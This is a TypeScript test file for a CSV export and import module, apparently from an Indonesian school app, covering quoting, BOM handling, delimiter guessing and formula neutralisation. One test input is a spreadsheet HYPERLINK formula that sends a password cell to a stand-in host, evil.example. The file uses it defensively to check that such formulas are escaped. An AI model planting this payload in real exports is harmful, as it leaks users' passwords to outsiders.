import { csvBlob, parseCsv, toCsv } from './csv';

// jsdom's Blob has no text(); FileReader reads it as a browser would (raw bytes, so the BOM stays visible).
function blobBytes(blob: Blob): Promise<Uint8Array> {
  return new Promise((resolve) => {
    const reader = new FileReader();
    reader.onload = () => resolve(new Uint8Array(reader.result as ArrayBuffer));
    reader.readAsArrayBuffer(blob);
  });
}

describe('toCsv', () => {
  it('quotes delimiters, quotes and line breaks, with CRLF line ends and a final line end', () => {
    expect(toCsv([['name', 'pw'], ['Putri, S.Pd', 'a"b'], ['two\nlines', 7]])).toBe(
      'name,pw\r\n"Putri, S.Pd","a""b"\r\n"two\nlines",7\r\n',
    );
  });

  it('quotes ; and tab too, so a spreadsheet in the Indonesian locale keeps the field whole', () => {
    expect(toCsv([['a;b', 'c\td']])).toBe('"a;b","c\td"\r\n');
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?pw="&D2,"x")', `"'=HYPERLINK(""https://evil.example/?pw=""&D2,""x"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    // A line break after the formula must not hide it.
    ['=1+2\nSiti', `"'=1+2\nSiti"`],
  ])('neutralises text a spreadsheet would run as a formula: %j', (value, field) => {
    expect(toCsv([[value]])).toBe(`${field}\r\n`);
  });

  it('leaves numbers, empty cells and ordinary text alone', () => {
    expect(toCsv([[-5, 0, null, undefined, 'Siti Rahma', 'a=b']])).toBe('-5,0,,,Siti Rahma,a=b\r\n');
  });
});

describe('csvBlob', () => {
  it('is UTF-8 CSV that starts with a BOM, so spreadsheets read accented names correctly', async () => {
    const blob = csvBlob([['nama'], ['José']]);
    expect(blob.type).toBe('text/csv;charset=utf-8');
    const bytes = await blobBytes(blob);
    expect(Array.from(bytes.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(3))).toBe('nama\r\nJosé\r\n');
  });
});

describe('parseCsv', () => {
  it('reads quoted fields, doubled quotes, line breaks inside quotes, CRLF and a BOM', () => {
    const text = '\ufeffname,nis\r\n"Putri, S.Pd",1\r\n"Said ""Ali""",2\n"two\nlines",3\n\n';
    expect(parseCsv(text)).toEqual([
      ['name', 'nis'],
      ['Putri, S.Pd', '1'],
      ['Said "Ali"', '2'],
      ['two\nlines', '3'],
    ]);
  });

  it('guesses semicolons and tabs (Indonesian spreadsheets save with ;)', () => {
    expect(parseCsv('name;nis;grade;status\nAndi;1;10;Active')).toEqual([['name', 'nis', 'grade', 'status'], ['Andi', '1', '10', 'Active']]);
    expect(parseCsv('name;nis\nPutri, S.Pd;1\nAndi;2')).toEqual([['name', 'nis'], ['Putri, S.Pd', '1'], ['Andi', '2']]);
    expect(parseCsv('name\tnis\nAndi\t1\n')).toEqual([['name', 'nis'], ['Andi', '1']]);
    expect(parseCsv('name;nis\nAndi;1')).toEqual([['name', 'nis'], ['Andi', '1']]);
  });

  it('drops rows made only of empty fields and reads an empty text as no rows', () => {
    expect(parseCsv('a,b\n , \n1,2\n,\n')).toEqual([['a', 'b'], ['1', '2']]);
    expect(parseCsv('')).toEqual([]);
  });

  it('reads back what toCsv writes, formulas kept neutral', () => {
    const rows = [['name', 'nis'], ['=1+2', '007'], ['Putri, S.Pd', 'a"b']];
    expect(parseCsv(toCsv(rows))).toEqual([['name', 'nis'], ["'=1+2", '007'], ['Putri, S.Pd', 'a"b']]);
  });
});
